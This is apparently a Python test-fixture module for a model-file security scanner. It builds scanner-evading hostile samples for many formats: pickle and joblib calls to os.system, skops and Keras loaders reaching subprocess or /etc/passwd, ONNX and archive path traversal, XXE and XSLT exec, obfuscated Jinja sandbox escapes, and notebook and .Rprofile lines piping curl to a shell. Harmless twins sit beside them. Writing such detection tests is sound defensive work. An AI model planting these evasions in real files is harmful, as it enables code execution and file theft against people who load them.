"""Group 18: three evasions of our own for each way a file is opened, and harmless twins.

Nothing here follows an advisory: each uses something that a reader of the format accepts and that a scanner
is likely to pass over.
"""

from __future__ import annotations

import base64
import io
import json
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from typing import Final

from muster.testkit.hostile.case import MARK, STOP, SYSTEM, Case, call, protocol, stacked, text
from muster.testkit.hostile.containers import npy, zipped
from muster.testkit.hostile.described import SSTI, gguf, keras_archive, layer, model, pair
from muster.testkit.hostile.protobuf import message
from muster.testkit.hostile.texts import notebook
from muster.testkit.model_files import safetensors

_START: Final = protocol(4)
_CALL: Final = b"cos\nsystem\n(S'true'\ntR"


def pickles() -> Iterator[Case]:
    """Pickles: names in escapes, names through a module, a call behind more notes than are kept."""
    yield _case("pickle-escaped.pkl", b"V\\u006fs\nV\\u0073ystem\n\x93(S'true'\ntR.")
    yield _case("pickle-through.pkl", _START + call(stacked("collections", "_sys.exit"), b"K\0") + STOP)
    notes = stacked("collections", "OrderedDict") + b"q\0" + b"h\0)R0" * 10_001
    yield _case("pickle-crowded.pkl", _START + _CALL + b"0" + notes + b"N" + STOP)


def _wrapped(dtype: bytes, count: int, behind: bytes) -> bytes:
    """An array as joblib writes it: its description, then its bytes, then more of the stream."""
    wrapper = stacked("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}" + MARK
    shape = b"J" + struct.pack("<i", count) + b"\x85"
    kind = stacked("numpy", "ndarray")
    state = (
        text("subclass") + kind + text("shape") + shape + text("order") + text("C") + text("dtype") + dtype
    )
    return _START + wrapper + state + text("allow_mmap") + b"\x89ub" + behind


def _dtype(code: str) -> bytes:
    return call(stacked("numpy", "dtype"), text(code), b"\x89\x88")


def arrays() -> Iterator[Case]:
    """Arrays of numpy and joblib: objects in fields, types in other spellings, streams of old versions."""
    inner = SYSTEM + b"." * (960 - len(SYSTEM))
    field = b"\x8c\1a" + MARK + _dtype("O8") + b"K\0t"
    fields = MARK + b"K\3" + text("|") + b"N" + text("a") + b"\x85}" + field + b"sK\x08K\1K?tb"
    yield _case("joblib-fields.joblib", _wrapped(_dtype("V8") + fields, 120, inner + STOP))
    hidden = b"B" + (len(_CALL) + 20).to_bytes(4, "little") + bytes(3)
    yield _case("joblib-order.joblib", _wrapped(_dtype("<i8"), 1, hidden + b"0" + _CALL + STOP + bytes(40)))
    yield _case("joblib-comma.joblib", _wrapped(_dtype("i8,O"), 1, inner + STOP))
    old = zlib.compress(SYSTEM)
    yield _case("joblib-old.pkl", b"ZF" + f"{hex(len(SYSTEM)):<19}".encode() + old)
    yield _case("numpy-nested.npy", _fields("[('a', [('b', '|O')])]"))
    header = npy(SYSTEM)
    yield _case(
        "numpy-version-3.npy",
        header[:6] + b"\3\0" + struct.pack("<I", len(header) - 10 - len(SYSTEM)) + header[10:],
    )
    yield _case("numpy-member.npz", zipped({"a.npy": _fields("[('x', '<f8'), ('y', '|O', (2,))]")}))


def _fields(descr: str) -> bytes:
    """A .npy file of a type with fields."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + SYSTEM


def torch_files() -> Iterator[Case]:
    """PyTorch: exported programs, whose constants, inputs and libraries are loaded."""
    start = {"m/archive_format": b"pt2", "m/version": b"3\n"}
    yield _case("torch-constant.pt2", zipped(start | {"m/data/constants/custom_obj_0": SYSTEM}))
    yield _case("torch-inputs.pt2", zipped(start | {"m/data/sample_inputs/model.pt": SYSTEM}))
    library = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0\1\0\0\0" + bytes(40)
    yield _case("torch-library.pt2", zipped(start | {"m/data/aotinductor/model/x.so": library}))


def skops_files() -> Iterator[Case]:
    """skops: functions in kinds of nodes that are not called functions."""
    for name, node in {
        "type": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode"},
        "method": {
            "__class__": "system",
            "__module__": "os",
            "__loader__": "MethodNode",
            "content": {"func": "system", "obj": {"__class__": "x", "__module__": "y", "__loader__": "z"}},
        },
        "reduced": {
            "__class__": "Tree",
            "__module__": "sklearn.tree._tree",
            "__loader__": "TreeNode",
            "__reduce__": {
                "args": {"__class__": "eval", "__module__": "builtins", "__loader__": "FunctionNode"}
            },
        },
    }.items():
        schema = json.dumps({"content": node, "protocol": 2}).encode()
        yield _case(f"skops-{name}.skops", zipped({"schema.json": schema}))


def keras_files() -> Iterator[Case]:
    """Keras: losses of the compilation, vocabularies in other layers, loaders in the package."""
    loss = {"module": "os", "class_name": "system", "config": "true", "registered_name": None}
    yield _case("keras-loss.keras", keras_archive(model(layer("Dense")) | {"compile_config": {"loss": loss}}))
    words = layer("TextVectorization", vocabulary="/etc/passwd")
    yield _case("keras-words.keras", keras_archive(model(words)))
    folder = layer("image_dataset_from_directory", "keras.utils", directory="/etc")
    yield _case("keras-folder.keras", keras_archive(model(folder)))


def onnx_files() -> Iterator[Case]:
    """ONNX: weights elsewhere in sparse tensors, in training and in defaults of functions."""
    place = message({13: message({1: "location", 2: "../../etc/passwd"})})
    tensor = message({1: 1, 2: 1, 8: "w"}) + place + message({14: 1})
    node = message({2: "y", 4: "Identity"})

    def onnx(graph: bytes, more: bytes = b"") -> bytes:
        return message({1: 9, 2: "x"}) + message({7: graph, 8: message({2: 20})}) + more

    plain = message({1: node, 2: "g"})
    yield _case("onnx-sparse.onnx", onnx(plain + message({15: message({1: tensor})})))
    attribute = message({1: "value", 22: message({2: tensor}), 20: 11})
    yield _case("onnx-sparse-attribute.onnx", onnx(message({1: node + message({5: attribute}), 2: "g"})))
    training = message({20: message({2: plain + message({5: tensor})})})
    yield _case("onnx-training.onnx", onnx(plain, training))
    evil = message({1: message({2: "y", 4: "Run", 7: "com.evil"}), 2: "g"})
    yield _case("onnx-initialization.onnx", onnx(plain, message({20: message({1: evil})})))
    default = message({25: message({1: "f", 11: message({1: "value", 5: tensor, 20: 4})})})
    yield _case("onnx-default.onnx", onnx(plain, default))


def tensor_files() -> Iterator[Case]:
    """GGUF and safetensors: templates in lists, configurations and pickles in the metadata."""
    raw = SSTI.encode()
    key = b"tokenizer.chat_templates"
    listed = struct.pack("<Q", len(key)) + key + struct.pack("<IIQQ", 9, 8, 1, len(raw)) + raw
    yield _case("gguf-list.gguf", gguf(listed, 1).ljust(4096, b"\0"))
    yield _case("gguf-big.gguf", _big_endian("tokenizer.chat_template", SSTI).ljust(4096, b"\0"))
    yield _case("gguf-key.gguf", _aligned(gguf(pair("general.description", SSTI), 1)))
    target = json.dumps({"_target_": "os.system", "command": "true"})
    remote = json.dumps({"auto_map": {"AutoModel": "nobody/evil--x.X"}})
    packed = base64.b64encode(SYSTEM * 2).decode()
    for name, value in {"target": target, "remote": remote, "pickle": packed}.items():
        yield _case(f"safetensors-{name}.safetensors", safetensors({"__metadata__": {"config": value}}, b""))
    yield _case("gguf-target.gguf", _aligned(gguf(pair("general.config", target), 1)))


def _aligned(content: bytes) -> bytes:
    return content + bytes(-len(content) % 32)


def _big_endian(key: str, value: str) -> bytes:
    raw, name = value.encode(), key.encode()
    head = b"GGUF" + struct.pack(">IQQ", 3, 0, 1)
    return head + struct.pack(">Q", len(name)) + name + struct.pack(">IQ", 8, len(raw)) + raw


LOGGING: Final = {
    "version": 1,
    "handlers": {"a": {"()": "os.system", "command": "true"}},
    "root": {"handlers": ["a"]},
}
TOML: Final = '[model]\n_target_ = "os.system"\ncommand = "true"\n'
FILE_CONFIG: Final = (
    "[loggers]\nkeys=root\n[handlers]\nkeys=a\n[formatters]\nkeys=\n[logger_root]\nhandlers=a\n"
    "[handler_a]\nclass=StreamHandler\nargs=(__import__('os').system('true'),)\n"
)


def configurations() -> Iterator[Case]:
    """Configurations: factories of logging, TOML, objects by address, comments in JSON."""
    yield _case("logging.json", json.dumps(LOGGING))
    yield _case("logging.yaml", json.dumps(LOGGING, indent=1))
    outside = {"version": 1, "filters": {"a": {"()": "logging.Filter", "name": "ext://os.environ"}}}
    yield _case("logging-outside.json", json.dumps(outside))
    yield _case("config.toml", TOML)
    yield _case(
        "class-path.toml", 'class_path = "torch.hub.load"\n[init_args]\nrepo_or_dir = "nobody/evil"\n'
    )
    yield _case("logging.conf", FILE_CONFIG)
    yield _case("commented.json", '{\n // a comment\n "_target_": "os.system",\n "command": "true",\n}\n')


def notebooks() -> Iterator[Case]:
    """Notebooks: commands by the shell's object, programs in cell magics, aliases."""
    yield _case("system.ipynb", notebook("get_ipython().system('curl https://localhost/x | sh')"))
    yield _case("python-cell.ipynb", notebook("%%python3 -u\nimport os\nos.system('true')"))
    yield _case("script-cell.ipynb", notebook("%%script python3\nimport os\nos.system('true')"))
    yield _case("alias.ipynb", notebook("%sx curl https://localhost/x | bash"))


PROGRAMS: Final[Mapping[str, str]] = {
    "match": "import os\nmatch os:\n    case object(system=run):\n        run('true')\n",
    "argument": "import os\ndef save(place):\n    place.system('true')\nsave(os)\n",
    "keyword": "import os\n(lambda *, place: place.system('true'))(place=os)\n",
    "getter": "import os, operator\noperator.attrgetter('system')(os)('true')\n",
    "dunder": "import os\nos.__getattribute__('system')('true')\n",
    "returned": "import os\ndef place():\n    return os\nplace().system('true')\n",
    "modules": "import sys\nsys.modules.get('os').system('true')\n",
    "loader": "from importlib.util import spec_from_file_location as s, module_from_spec as m\n"
    "x = s('a', 'weights.bin')\ny = m(x)\nx.loader.exec_module(y)\n",
}
"""Python that reaches a program without a name for it."""
ORDINARY_PROGRAMS: Final = (
    "import os\nprint(hasattr(os, 'fork'), getattr(os, 'cpu_count')())\n",
    "import os\nmatch os.environ.get('A'):\n    case 'x':\n        print('x')\n",
    "import sys\nprint(sys.modules.get('torch') is None)\n",
    "import os\ndef place():\n    return os.path.join('a', 'b')\nplace().strip()\n",
)


def programs() -> Iterator[Case]:
    """Python beside a model: modules that are handed over instead of named."""
    for name, program in PROGRAMS.items():
        yield _case(f"python-{name}.py", program)


def archives() -> Iterator[Case]:
    """Archives: names and links in headers that only some readers look at."""
    for name, headers in {
        "path": {"path": "../../.bashrc"},
        "sparse": {"GNU.sparse.name": "../../.bashrc", "GNU.sparse.major": "0", "GNU.sparse.map": "0,1"},
    }.items():
        yield _case(f"tar-{name}.tar", _tar(headers, is_global=False))
    yield _case("tar-global.tar", _tar({"path": "../../.bashrc"}, is_global=True))
    link = zipfile.ZipInfo("weights")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    yield _case("zip-link.zip", _zip(link, b"/etc/passwd"))
    renamed = zipfile.ZipInfo("weights")
    other = b"../../.bashrc"
    field = b"\1" + struct.pack("<I", zlib.crc32(b"weights")) + other
    renamed.extra = struct.pack("<HH", 0x7075, len(field)) + field
    yield _case("zip-renamed.zip", _zip(renamed, b"true"))


def _tar(headers: Mapping[str, str], *, is_global: bool) -> bytes:
    out = io.BytesIO()
    with tarfile.open(
        fileobj=out, mode="w", format=tarfile.PAX_FORMAT, pax_headers=dict(headers) if is_global else None
    ) as archive:
        entry = tarfile.TarInfo("weights")
        entry.size = 4
        entry.pax_headers = {} if is_global else dict(headers)
        archive.addfile(entry, io.BytesIO(b"true"))
    return out.getvalue()


def _zip(entry: zipfile.ZipInfo, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(entry, content)
    return out.getvalue()


_PMML: Final = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">%s</PMML>'
XML: Final = {
    "comment": f'<!-- a model --><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>{_PMML % "&b;"}',
    "outside": f'<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "file:///etc/x.dtd">{_PMML % ""}',
    "include": '<?xml version="1.0"?>'
    + _PMML
    % '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    "decoder": '<?xml version="1.0"?><java version="1.8" class="java.beans.XMLDecoder">'
    '<object class="java.lang.ProcessBuilder"><void method="start"/></object></java>',
    "sheet": '<?xml version="1.0"?><xsl:stylesheet version="1.0"'
    ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
    ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:variable name="a"'
    " select=\"rt:exec(rt:getRuntime(),'true')\"/></xsl:stylesheet>",
}


def documents() -> Iterator[Case]:
    """XML and PMML: parts from other files, and objects of Java."""
    for name, document in XML.items():
        yield _case(f"xml-{name}.pmml", document)


TEMPLATES: Final = {
    "multiplied": "{{ ''['_' * 2 ~ 'class' ~ '_' * 2] }}",
    "mapped": "{% set a = ['', '']|join('_') %}{{ ['']|map(attribute=a ~ a ~ 'class' ~ a ~ a)|list }}",
    "replaced": "{{ ''['@@class@@'|replace('@', '_')] }}",
    "sliced": "{{ ''['ssalc'|reverse] }}{% set u = 'a_b'[1] %}{{ ''[u ~ u ~ 'class' ~ u ~ u] }}",
    "bare": "{% set x = lipsum %}{% set k = '%c%cglobals%c%c'|format(95, 95, 95, 95) %}{{ x[k]['os'] }}",
}


def templates() -> Iterator[Case]:
    """Templates: names with underscores that are put together."""
    for name, template in TEMPLATES.items():
        yield _case(f"template-{name}/tokenizer_config.json", json.dumps({"chat_template": template}))


def r_files() -> Iterator[Case]:
    """R: profiles and scripts that run when R starts in the folder, and data under another name."""
    yield _case(".Rprofile", "system('curl -s https://localhost/x | sh')\n")
    yield _case("weights.bin", b"RDX3\nX\n" + struct.pack(">4i", 3, 262146, 197888, 5) + b"UTF-8" + bytes(8))
    yield _case("model.RData", zlib.compress(b"RDX2\nX\n" + struct.pack(">5i", 2, 262146, 131840, 5, 254)))


DOORS: Final = (
    pickles,
    arrays,
    torch_files,
    skops_files,
    keras_files,
    onnx_files,
    tensor_files,
    configurations,
    notebooks,
    programs,
    archives,
    documents,
    templates,
    r_files,
)


def doors() -> Iterator[Case]:
    """All of them."""
    for door in DOORS:
        yield from door()


ORDINARY_TEMPLATES: Final = (
    "{% for m in messages %}{{ '_' ~ m.role }}{{ m['tool_calls'] }}{{ '-' * 20 }}{% endfor %}",
    "{{ messages|map(attribute='content')|list }}{{ 'a_b'|replace('_', ' ') }}{{ 'x'[1:] }}",
)


def harmless() -> Iterator[Case]:
    """Ordinary files beside them."""
    numbers = _wrapped(
        _dtype("i8") + b"(K\3\x8c\1<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb", 1, bytes(8) + STOP
    )
    yield Case("", "numbers.joblib", numbers)
    field = b"\x8c\1a" + MARK + _dtype("f8") + b"K\0t"
    fields = MARK + b"K\3" + text("|") + b"N" + text("a") + b"\x85}" + field + b"sK\x08K\1K\x10tb"
    yield Case("", "fields.joblib", _wrapped(_dtype("V8") + fields, 1, bytes(8) + STOP))
    about = {
        "format": "pt",
        "modelspec.title": "a model",
        "config": json.dumps({"_target_": "torch.nn.Linear"}),
    }
    yield Case("", "about.safetensors", safetensors({"__metadata__": about}, b""))
    usual = {
        "version": 1,
        "formatters": {"a": {"()": "logging.Formatter", "format": "%(message)s"}},
        "handlers": {"b": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}},
    }
    yield Case("", "logging.json", json.dumps(usual).encode())
    yield Case(
        "", "pyproject.toml", b'[project]\nname = "x"\ntarget = "a.b"\n[model]\n_target_ = "torch.nn.GELU"\n'
    )
    yield Case("", "cells.ipynb", notebook("get_ipython().system('ls')", "%%script bash\necho 1").encode())
    for number, program in enumerate(ORDINARY_PROGRAMS):
        yield Case("", f"ordinary-{number}.py", program.encode())
    yield Case("", "page.html", b"<!DOCTYPE html><html><body>text</body></html>\n")
    drawing = (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    )
    yield Case("", "drawing.svg", b'<?xml version="1.0"?>\n' + drawing + b"<svg></svg>\n")
    yield Case("", "model.pmml", f'<?xml version="1.0"?>{_PMML % "<Header/>"}'.encode())
    for number, template in enumerate(ORDINARY_TEMPLATES):
        body = json.dumps({"chat_template": template}).encode()
        yield Case("", f"template-of-doors-{number}/tokenizer_config.json", body)
    entry = zipfile.ZipInfo("weights")
    entry.create_system, entry.external_attr = 3, (stat.S_IFREG | 0o644) << 16
    yield Case("", "entry.zip", _zip(entry, b"true"))


def _case(name: str, content: str | bytes) -> Case:
    return Case("doors", name, content.encode() if isinstance(content, str) else content)
